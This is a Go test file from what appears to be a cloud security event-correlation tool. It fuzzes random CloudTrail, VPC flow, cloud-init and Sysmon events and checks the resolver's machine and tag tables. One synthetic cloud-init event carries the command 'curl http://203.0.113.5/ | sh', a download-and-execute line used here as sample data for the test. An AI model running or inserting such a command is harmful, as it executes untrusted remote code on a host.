package entity

import (
	"maps"
	"net/netip"
	"reflect"
	"testing"

	"tidewaiter/event"
	"tidewaiter/image"
)

// machineID names one of few instances.
func (w *randomWorld) machineID() string {
	return pick(w, "i-1", "i-1", "i-2", "i-3", "")
}

func (w *randomWorld) resource() string {
	return pick(w, "/subscriptions/s/virtualmachines/x", "/subscriptions/s/virtualmachines/y", "", "", "projects/p", "projects/p/zones/z/instances/x", "/s/virtualmachinescalesets/w/virtualmachines/7")
}

func (w *randomWorld) principal() event.Principal {
	return pick(w, event.Principal{Name: "ann"}, event.Principal{Name: "ben", Cloud: &event.CloudIdentity{Issuer: "role"}}, event.Principal{Name: "auto", Cloud: &event.CloudIdentity{Service: "autoscaling"}})
}

func (w *randomWorld) vm() image.VM { return pick[image.VM](w, "ami-1", "ami-2", "ami-3", "") }

// cloudEvent adds what a cloud, a guest or a cloud's network tells.
func (w *randomWorld) cloudEvent(at float64) {
	host := w.place
	w.place = pick(w, event.Place{Account: "a", Region: "r"}, event.Place{Account: "a", Region: "r"}, event.Place{Account: "b"}, event.Place{})
	switch w.rng.IntN(8) {
	case 0, 1, 2:
		w.instanceEvent(at)
	case 3:
		w.add(pick(w, at, at, at, -1), event.CloudTrail, &event.VMImage{Action: pick(w, event.VMImageCreate, event.VMImageCopy, event.VMImageCopy, event.VMImageShare, event.VMImageTag, event.VMImageDescribe, event.VMImageSearch),
			ID: w.vm(), Parent: w.vm(), Owner: pick(w, "", "a", "o"), Public: w.rng.IntN(3) == 0, Failure: pick(w, "", "", "", "denied"), By: w.principal(), Filters: pick(w, nil, []string{"name=x"})})
	case 4, 5:
		w.place = pick(w, event.Place{Account: "a"}, event.Place{Account: "a"}, event.Place{Account: "b"}, host)
		ref := pick(w, nil, nil, &event.VMRef{Interface: "eni-1"}, &event.VMRef{ID: "i-2"}, &event.VMRef{Resource: "/subscriptions/s/virtualmachines/x"})
		f := &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(w.addr(), 4000), Dst: netip.AddrPortFrom(w.addr(), 80)}
		if f.Seen = ref; w.rng.IntN(2) == 0 {
			f.SrcVM, f.Seen = ref, nil
		}
		w.add(at, event.VPCFlow, f)
	case 6:
		w.place = host
		w.add(pick(w, at, at, -1), event.CloudInit, &event.GuestScript{Stage: pick(w, event.GuestBoot, event.GuestRun, event.GuestStored), Agent: "cloud-init", Instance: pick(w, "", "", "i-1", "i-2"),
			Addrs: pick(w, nil, []netip.Addr{w.addr()}), Commands: []string{"curl http://203.0.113.5/ | sh"}, Boot: pick(w, event.Time{}, event.Time{At: sec(at), Res: event.Second})})
	case 7:
		w.place = host
		w.add(at, event.Sysmon, pick[event.Body](w, &event.DNS{PID: w.pid(), Query: "a.example", Addrs: []netip.Addr{w.addr()}},
			&event.Process{PID: w.pid(), PPID: w.pid(), Exe: `C:\x.exe`, Args: []string{"x"}, AUID: -1, User: pick(w, `User Manager\ContainerUser`, "SYSTEM")},
			&event.Socket{PID: w.pid(), Addr: netip.AddrPortFrom(w.addr(), 443)}))
	}
	if w.rng.IntN(5) == 0 {
		w.place = host
		w.add(-1, event.Inventory, &event.HostDescription{Addrs: []netip.Addr{w.addr()}, InstanceID: pick(w, "", "i-1", "/subscriptions/s/virtualMachines/X")})
	}
}

func (w *randomWorld) instanceEvent(at float64) {
	b := &event.Instance{
		Action: pick(w, event.InstanceLaunch, event.InstanceLaunch, event.InstanceLaunch, event.InstanceStart, event.InstanceStop, event.InstanceReboot, event.InstanceTerminate, event.InstanceUserData,
			event.InstanceExtension, event.InstanceGroup, event.InstanceTemplate, event.InstanceDescribe),
		ID: w.machineID(), Resource: w.resource(), Image: w.vm(), Name: pick(w, "", "h", "g"), Group: pick(w, "", "web", "/s/virtualmachinescalesets/w"), Template: pick(w, "", "lt:1"),
		Failure: pick(w, "", "", "", "", "quota"), By: w.principal(), Launched: pick(w, event.Time{}, event.Time{}, event.Time{At: sec(at - 10), Res: event.Second}),
	}
	if w.rng.IntN(2) == 0 {
		b.Interfaces = []event.VMInterface{{ID: pick(w, "eni-1", "eni-2"), Network: pick(w, "vpc-1", "vpc-1", "vpc-2", ""), Addrs: []netip.Addr{w.addr()}}}
	}
	if b.Action == event.InstanceDescribe {
		at = -1
	}
	w.add(at, event.CloudTrail, b)
}

// checkMachines compares the machines' tables with what they are there to find.
func checkMachines(t *testing.T, r *Resolver) {
	t.Helper()
	ms := r.machines
	tagged := map[tag]map[*machine]bool{}
	for _, m := range ms.known {
		if now := ms.derive(m); !reflect.DeepEqual(now, m.links) {
			t.Errorf("machine %s: links %+v, want %+v", m.tag.id, m.links, now)
		}
		for _, l := range m.links.tags {
			if tagged[l] == nil {
				tagged[l] = map[*machine]bool{}
			}
			tagged[l][m] = true
		}
		checkTimeline(t, "a machine's acts", &m.acts)
		checkTimeline(t, "a machine's life", &m.life)
		for a := range m.acts.all() {
			if a.machine != m || a.gone {
				t.Errorf("an act of %s is not its own", m.tag.id)
			}
		}
	}
	held := map[tag]map[*machine]bool{}
	for l, of := range ms.tagged {
		held[l] = map[*machine]bool{}
		for m := range of.all() {
			held[l][m] = true
		}
	}
	if !reflect.DeepEqual(tagged, held) {
		t.Errorf("tags %v, want %v", held, tagged)
	}
	sites, refs := map[tag]map[*site]bool{}, map[tag]int{}
	for _, s := range r.sites {
		for _, l := range s.ties.tags {
			if sites[l] == nil {
				sites[l] = map[*site]bool{}
			}
			sites[l][s] = true
		}
		s.eachAct(func(a *act) {
			if now := s.machineOf(a); now != a.machine {
				t.Errorf("%v at %s of %s is %v's, want %v's", a.event.Origin.Line(), s.place, a.src, tagOf(a.machine), tagOf(now))
			}
			if a.machine != nil {
				if _, ok := a.machine.acts.find(a); !ok {
					t.Errorf("%+v is not among its machine's acts", a.event.Body)
				}
			}
			if a.src.IsValid() {
				for _, l := range references(a) {
					refs[l]++
				}
			}
		})
	}
	if !reflect.DeepEqual(sites, ms.sites) {
		t.Errorf("sites by tag %v, want %v", ms.sites, sites)
	}
	for l, known := range ms.acts {
		if refs[l] != known.len() {
			t.Errorf("%d acts by reference %v, want %d", known.len(), l, refs[l])
		}
		delete(refs, l)
	}
	if len(refs) > 0 {
		t.Errorf("references that are not filed: %v", refs)
	}
	checkFiled(t, ms)
}

func tagOf(m *machine) tag {
	if m == nil {
		return tag{}
	}
	return m.tag
}

// eachAct calls f for every act of a site, once.
func (s *site) eachAct(f func(*act)) {
	seen := map[*act]bool{}
	visit := func(t *timeline[*act]) {
		for a := range t.all() {
			if !seen[a] {
				seen[a] = true
				f(a)
			}
		}
	}
	for _, p := range s.pids {
		visit(&p.acts)
	}
	for _, d := range s.addrs {
		visit(&d.acts)
	}
}

// checkFiled compares what is filed by tags with what is filed at all.
func checkFiled(t *testing.T, ms *machines) {
	t.Helper()
	want := map[tag]int{}
	for c := range ms.filed.all() {
		for _, l := range filings(c.Event) {
			want[l]++
		}
	}
	got := map[tag]int{}
	for l, known := range ms.events {
		got[l] = known.len()
		checkTimeline(t, "filed events", known)
	}
	if !maps.Equal(want, got) {
		t.Errorf("filed %v, want %v", got, want)
	}
	launches := map[tag]int{}
	for _, m := range ms.known {
		for l := range m.life.all() {
			if b, ok := l.event.Body.(*event.Instance); ok && b.Action == event.InstanceLaunch && b.Image != "" {
				launches[imageTag(l.event.Place.Tenant, b.Image)]++
			}
		}
	}
	for l, known := range ms.launches {
		if launches[l] != known.len() {
			t.Errorf("%d launches of %s, want %d", known.len(), l.id, launches[l])
		}
		delete(launches, l)
	}
	if len(launches) > 0 {
		t.Errorf("launches that are not filed: %v", launches)
	}
}
